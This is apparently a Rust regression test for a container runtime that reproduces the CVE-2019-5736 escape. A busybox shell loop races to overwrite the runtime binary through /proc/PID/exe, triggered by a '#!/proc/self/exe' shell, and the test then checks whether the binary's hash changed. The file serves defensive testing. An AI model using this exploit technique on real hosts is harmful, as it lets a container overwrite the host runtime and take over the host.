//! CVE-2019-5736: the container overwrites the runtime binary through /proc/PID/exe.
//!
//! The image's /bin/sh is `#!/proc/self/exe`, so `exec ID /bin/sh` makes the process the
//! runtime put into the container's namespaces execute the runtime binary itself, visible to
//! the container. A racing loop in the container opens every non-busybox /proc/PID/exe it
//! sees, and keeps trying to write through that descriptor until the text-busy state ends.
use std::time::Duration;

use crate::harness::*;

/// The attacker, run by the container's init with busybox's shell. It only ever writes to the
/// runtime binary the container was given a glimpse of (the case's private copy), and writes
/// a line that is no program, then stops.
const ATTACK: &str = r#"
while :; do
  for e in /proc/[0-9]*/exe; do
    [ "$e" -ef /bin/busybox ] && continue
    command exec 3<"$e" 2>/dev/null || continue
    echo "attack: holding $e"
    i=0
    while [ $i -lt 30000 ]; do
      if { echo 'ESCAPED CVE-2019-5736' > /proc/self/fd/3; } 2>/dev/null; then
        echo "attack: overwrote $e"
        exit 0
      fi
      i=$((i+1))
    done
    exec 3<&-
  done
done
"#;

#[test]
fn cve_2019_5736_exec_overwrites_runtime_binary() {
    case("cve-2019-5736-runtime-overwrite", Kind::Escape, |h| {
        let b = h.bundle("exe", &["/bin/busybox", "sh", "/attack"]);
        b.write("/attack", ATTACK, 0o755);
        b.write("/bin/sh", "#!/proc/self/exe\n", 0o755);
        let (id, _) = h.start_container(&b)?;
        // Control: exec works at all (else "blocked" would mean nothing).
        let r = h.rt(&["exec", &id, "/bin/busybox", "true"]);
        if !r.ok() {
            return Err(format!("control exec of /bin/busybox true: {}", r.brief()));
        }
        let before = sha256(&h.runtime);
        let mut last = String::new();
        for attempt in 1..=12 {
            let r = h.rt(&["exec", &id, "/bin/sh"]);
            last = r.brief();
            // The attacker writes once the runtime's last process is gone: give it time.
            std::thread::sleep(Duration::from_millis(300));
            if sha256(&h.runtime) != before {
                let log = h.container_output(&id);
                return Ok(Finding::Escaped(format!(
                    "exec #{attempt} of /bin/sh (#!/proc/self/exe): the container overwrote the \
                     runtime binary through /proc/PID/exe; container said: {}",
                    one_line(&log)
                )));
            }
        }
        let log = h.container_output(&id);
        Ok(Finding::Held(format!(
            "12 execs of #!/proc/self/exe, binary unchanged (last exec: {last}; container: {})",
            one_line(&log)
        )))
    });
}
